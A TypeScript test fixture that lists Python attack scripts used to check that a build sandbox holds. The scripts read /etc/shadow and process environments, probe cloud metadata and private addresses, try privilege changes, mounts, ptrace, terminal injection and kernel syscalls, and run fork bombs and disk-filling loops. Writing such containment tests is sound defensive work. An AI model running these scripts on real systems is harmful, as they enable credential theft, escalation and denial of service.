import type { Limits } from "#lib/platform/sandbox/launch.ts";
import type { SandboxResult } from "#lib/platform/sandbox/run.ts";

/**
 * Something a hostile build tries, in Python. Made for the sandbox only: outside of it, and as root above all, these truncate
 * system files, change routes and stop processes. It prints `ESCAPED` when it got what it wanted, and ends by itself.
 */
export type Attack = {
  readonly name: string;
  readonly script: string;
  /** A shell script that runs as an earlier command of the same build. */
  readonly before?: string;
  readonly environment?: Readonly<Record<string, string>>;
  /** Bounds that differ from the usual small ones. */
  readonly limits?: Partial<Limits>;
  /** What stops it, for attacks that only a limit ends. */
  readonly stopped?: SandboxResult["stopped"];
  /** It reaches for other machines: only the packet filter keeps its packets here. */
  readonly reachesOut?: true;
};

/** Put before every script. */
export const prelude = `
import ctypes, errno, os, signal, socket, stat, subprocess, sys, time
if os.uname().nodename != "build" or os.getuid() != 1000:
    print("ESCAPED there is no sandbox: nothing was tried"); os._exit(1)
libc = ctypes.CDLL(None, use_errno=True)
V = {k[7:]: v for k, v in os.environ.items() if k.startswith("VICTIM_")}
def show(path):
    try:
        with open(path, "rb") as f: print(f.read(4096).decode("utf8", "replace").replace("\\0", "\\n"))
    except OSError as e: print(path, e.strerror)
def escaped(what): print("ESCAPED", what)
def attempt(what, do):
    try: do()
    except OSError as e: print(what, e.strerror or e)
    else: escaped(what)
def call(what, *args):
    r = libc.syscall(*args)
    if r == -1: print(what, os.strerror(ctypes.get_errno()))
    else: escaped(what)
    return r
def reach(family, address, kind=socket.SOCK_STREAM):
    s = socket.socket(family, kind)
    s.settimeout(3)
    try:
        s.connect(address); print(address, s.recv(100).decode()); escaped(address)
    except TimeoutError: print("SILENCE", address)
    except OSError as e: print(address, e.strerror or e)
    finally: s.close()
`;

const connections = (hosts: readonly string[], port: string) =>
  `for host in ${JSON.stringify(hosts)}: reach(socket.AF_INET6 if ":" in host else socket.AF_INET, (host, ${port}))`;

const reading: Attack[] = [
  {
    name: "reads the data directory",
    script: `show(V["DATA"] + "/victim-key"); show(V["DATA"] + "/secret-key"); attempt("list", lambda: print(os.listdir(V["DATA"])))`,
  },
  {
    name: "reads the installation",
    script: `attempt("list", lambda: print(os.listdir(V["PROJECT"]))); show(V["PROJECT"] + "/.env")`,
  },
  {
    name: "reads the environment of the worker",
    script: `
for pid in [V["WORKER"], *filter(str.isdigit, os.listdir("/proc"))]:
    show(f"/proc/{pid}/environ") if pid != str(os.getpid()) else None`,
  },
  {
    name: "follows the worker's root, folder and memory through /proc",
    script: `
for pid in [V["WORKER"], V["PROCESS"], "1"]:
    for name in ("root", "cwd"): show(f"/proc/{pid}/{name}{V['DATA']}/victim-key")
    if pid != "1": attempt(f"mem {pid}", lambda: open(f"/proc/{pid}/mem", "rb"))`,
  },
  {
    name: "reads another build's checkout",
    script: `show(V["NEIGHBOUR"] + "/checkout/secret.txt"); attempt("list", lambda: os.listdir(V["NEIGHBOUR"]))`,
  },
  {
    name: "reads the machine's accounts, mail, homes and keys",
    script: `
for path in ("/etc/shadow", "/etc/ssl/private/ssl-cert-snakeoil.key", "/root/.bashrc", "/var/log/dpkg.log", "/run/dbus/system_bus_socket", "/sys/kernel/notes"):
    attempt(path, lambda: open(path, "rb"))`,
  },
  {
    name: "sees or ends other builds' processes",
    script: `
alive = [p for p in os.listdir("/proc") if p.isdigit()]
print(alive)
if len(alive) > 20: escaped("processes")
for pid in (V["PROCESS"], V["WORKER"]): attempt(f"signal {pid}", lambda: os.kill(int(pid), 0))`,
  },
  {
    name: "traces other processes",
    script: `
for pid in (V["PROCESS"], V["WORKER"]): call("attach", 101 if os.uname().machine == "x86_64" else 117, 16, int(pid), 0, 0)`,
  },
  {
    name: "reads keys of the worker's keyring",
    script: `
add, keyctl = (248, 250) if os.uname().machine == "x86_64" else (217, 219)
call("add a key", add, b"user", b"lectern", b"x", 1, -4)
for ring in (-3, -4, -5): call("describe a ring", keyctl, 6, ring, 0, 0)`,
  },
];

const network: Attack[] = [
  {
    name: "reaches servers of this machine over loopback",
    script: connections(["127.0.0.1", "127.0.0.2", "::1", "0.0.0.0", "::"], `int(V["PORT"])`),
  },
  {
    name: "reaches this machine by its own addresses",
    script: `
for host in V["OWN"].split(): reach(socket.AF_INET6 if ":" in host else socket.AF_INET, (host, int(V["PORT"])))`,
  },
  {
    name: "reaches this machine through its gateway",
    reachesOut: true,
    script: `
gateways = {socket.inet_ntoa(bytes.fromhex(line.split()[2])[::-1]) for line in open("/proc/net/route").readlines()[1:]}
for host in gateways - {"0.0.0.0"}: reach(socket.AF_INET, (host, int(V["PORT"])))`,
  },
  {
    name: "reaches this machine through its resolver",
    script: connections(["169.254.1.1"], `int(V["PORT"])`),
  },
  {
    name: "reaches PostgreSQL",
    script: `
for host in ("127.0.0.1", "::1"): reach(socket.AF_INET6 if ":" in host else socket.AF_INET, (host, int(V["POSTGRES_PORT"])))
for path in (f'{V["POSTGRES"]}/.s.PGSQL.{V["POSTGRES_PORT"]}', "/var/run/postgresql/.s.PGSQL.5432", "/tmp/.s.PGSQL.5432"):
    attempt(path, lambda: socket.socket(socket.AF_UNIX).connect(path))`,
  },
  {
    name: "reaches sockets of this machine, named and abstract",
    script: `
for path in (V["SOCKET"], "\\0" + V["ABSTRACT"]): attempt(repr(path), lambda: socket.socket(socket.AF_UNIX).connect(path))`,
  },
  ...[
    ["link-local addresses and metadata services", ["169.254.169.254", "169.254.170.2"]],
    [
      "private addresses",
      ["10.0.0.1", "10.255.255.254", "172.16.0.1", "172.31.255.254", "192.168.0.1", "100.64.0.1"],
    ],
    ["private addresses of IPv6", ["fc00::1", "fd00:ec2::254", "fe80::1", "::ffff:10.0.0.1"]],
  ].map(
    ([what, hosts]): Attack => ({
      name: `reaches ${what}`,
      // Silence would mean that the packets have left.
      reachesOut: true,
      script: `${connections(hosts as string[], "80")}`,
    }),
  ),
  {
    name: "sends packets that belong to no connection",
    reachesOut: true,
    script: `
for kind in (socket.SOCK_RAW,): attempt("raw", lambda: socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt("udp", lambda: s.sendto(b"x", ("10.0.0.1", 9)))`,
  },
  {
    name: "changes the packet filter",
    script: `
for tool in (["nft", "flush", "ruleset"], ["ip", "route", "add", "10.0.0.0/8", "dev", "lo"]):
    r = subprocess.run(tool, capture_output=True, env={"PATH": "/usr/sbin:/sbin:/usr/bin:/bin"}) if any(os.path.exists(f"{d}/{tool[0]}") for d in ("/usr/sbin", "/sbin", "/bin")) else None
    if r and r.returncode == 0: escaped(tool)`,
  },
];

const privileges: Attack[] = [
  {
    name: "writes outside its folders",
    script: `
for path in ("/usr/bin/x", "/etc/x", "/x", "/dev/x", "/proc/sys/kernel/core_pattern", "/etc/resolv.conf", "/usr/lib/x", "/sys/x"):
    attempt(path, lambda: open(path, "w"))`,
  },
  {
    name: "becomes another user",
    script: `
attempt("setuid", lambda: os.setuid(0)); attempt("setgroups", lambda: os.setgroups([0]))
os.chdir(os.environ["HOME"])
attempt("own", lambda: os.chown(".", 0, 0))
for tool in ("/bin/su", "/usr/bin/sudo", "/bin/mount"):
    if os.path.exists(tool):
        r = subprocess.run([tool, "-c", "id -u"], capture_output=True, text=True, stdin=subprocess.DEVNULL)
        if r.returncode == 0: escaped(tool)`,
  },
  {
    name: "mounts",
    script: `
for kind, source in ((b"tmpfs", b"x"), (b"proc", b"proc"), (None, b"/")):
    r = libc.mount(source, b"/tmp", kind, 0 if kind else 4096, None)
    print("mount", os.strerror(ctypes.get_errno())) if r else escaped(kind)`,
  },
  {
    name: "makes new namespaces",
    script: `
for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000): 
    print(os.strerror(ctypes.get_errno())) if libc.unshare(flag) else escaped(hex(flag))`,
  },
  {
    name: "makes device nodes",
    script: `
os.chdir(os.environ["HOME"])
for kind, major, minor in ((stat.S_IFBLK, 254, 0), (stat.S_IFCHR, 1, 1)): attempt("mknod", lambda: os.mknod("d", 0o666 | kind, os.makedev(major, minor)))`,
  },
  {
    name: "types into a terminal",
    script: `
import fcntl
attempt("open a terminal", lambda: fcntl.ioctl(os.open("/dev/tty", os.O_RDWR), 0x5412, b"x"))
for fd in (0, 1, 2): attempt("type", lambda: fcntl.ioctl(fd, 0x5412, b"x"))`,
  },
  {
    name: "loads code into the kernel",
    script: `
x86 = os.uname().machine == "x86_64"
call("bpf", 321 if x86 else 280, 0, 0, 0)
call("io_uring", 425, 1, ctypes.create_string_buffer(120))
call("userfaultfd", 323 if x86 else 282, 0)
call("perf", 298 if x86 else 241, ctypes.create_string_buffer(128), 0, -1, -1, 0)`,
  },
];

const forkBomb = `
n = 0
try:
    while n < 400:
        if os.fork() == 0: time.sleep(20); os._exit(0)
        n += 1
except OSError as e: print(e.strerror)
if n > 80: escaped(n)`;

const limits: Attack[] = [
  {
    name: "a fork bomb",
    script: forkBomb,
  },
  {
    name: "a fork bomb after putting another program in place of the one that sets the limit",
    before: `cd /tmp; printf '#!/bin/sh\nwhile [ "$1" != -- ]; do shift; done; shift; exec "$@"' > prlimit; chmod +x prlimit`,
    environment: { PATH: "/tmp:/usr/local/bin:/usr/bin:/bin" },
    script: forkBomb,
  },
  {
    name: "threads without end",
    script: `
import threading
n = 0
try:
    while n < 400: threading.Thread(target=time.sleep, args=(20,), daemon=True).start(); n += 1
except RuntimeError as e: print(e)
if n > 80: escaped(n)
os._exit(0)`,
  },
  {
    name: "takes memory in one process",
    script: `x = bytearray(400_000_000); time.sleep(5); escaped("memory")`,
    stopped: "memory",
  },
  {
    name: "takes memory in many processes",
    script: `
children = []
for _ in range(4):
    pid = os.fork()
    if pid == 0: x = bytearray(b"x") * 80_000_000; time.sleep(10); os._exit(0)
    children.append(pid)
time.sleep(4)
alive = [pid for pid in children if os.waitpid(pid, os.WNOHANG)[0] == 0]
if len(alive) > 2: escaped("memory")
sys.exit(9)`,
    stopped: "memory",
  },
  {
    name: "takes memory in files without a name",
    script: `
fd = os.memfd_create("x")
for _ in range(400): os.write(fd, bytes(1_000_000))
time.sleep(5); escaped("memory")`,
    stopped: "memory",
    limits: { diskMb: 2_000 },
  },
];

const disk: Attack[] = [
  {
    name: "fills the disk with one file",
    script: `
try:
    with open("big", "wb") as f:
        for _ in range(400): f.write(bytes(1_000_000))
except OSError as e: print(e.strerror); os._exit(0)
time.sleep(12); escaped("disk")`,
  },
  {
    name: "fills the disk with several files",
    script: `
for n in range(8):
    with open(f"f{n}", "wb") as f: f.write(bytes(30_000_000))
time.sleep(12); escaped("disk")`,
    stopped: "disk",
  },
  {
    name: "fills the disk with a file it has deleted",
    script: `
held = []
for n in range(8):
    f = open(f"f{n}", "wb"); os.unlink(f"f{n}"); f.write(bytes(30_000_000)); f.flush(); held.append(f)
time.sleep(12); escaped("disk")`,
    stopped: "disk",
  },
  {
    name: "fills the disk with empty files",
    script: `
for n in range(40_000): open(str(n), "w").close()
time.sleep(12); escaped("files")`,
    stopped: "disk",
  },
  {
    name: "reserves disk without writing",
    script: `
for n in range(8):
    fd = os.open(f"r{n}", os.O_CREAT | os.O_WRONLY); os.posix_fallocate(fd, 0, 40_000_000)
time.sleep(12); escaped("disk")`,
    stopped: "disk",
  },
  ...["/dev/shm", "/run", "/dev", "/tmp", "/var/tmp", "/"].map(
    (folder): Attack => ({
      name: `fills ${folder}`,
      script: `
try:
    for n in range(8):
        with open(f"{${JSON.stringify(folder)}}/s{n}", "wb") as f: f.write(bytes(40_000_000))
except OSError as e: print(e.strerror); sys.exit()
time.sleep(12); escaped("room")`,
    }),
  ),
  {
    name: "fills /dev/shm and /run with empty files",
    script: `
n = 0
for folder in ("/dev/shm", "/run"):
    try:
        for n in range(60_000): open(f"{folder}/{n}", "w").close()
    except OSError as e: print(e.strerror); continue
    time.sleep(12); escaped(folder)`,
    stopped: "disk",
  },
];

const staying: Attack[] = [
  {
    name: "prints without end",
    script: `
while True: print("y" * 100)`,
    limits: { seconds: 4 },
    stopped: "time",
  },
  {
    name: "prints without end and without a line",
    script: `
while True: sys.stdout.write("y" * 65536)`,
    limits: { seconds: 4 },
    stopped: "time",
  },
  {
    name: "ignores being asked to end",
    script: `
for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP): signal.signal(s, signal.SIG_IGN)
time.sleep(40); escaped("time")`,
    limits: { seconds: 2 },
    stopped: "time",
  },
  {
    name: "leaves a process behind",
    script: `
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(3): os.close(fd)
        os.execvp("sleep", ["sleep", "987.65"])
    os._exit(0)
os.wait()`,
  },
];

export const attacks: readonly Attack[] = [
  ...[...reading, ...network, ...privileges],
  ...[...limits, ...disk, ...staying],
];
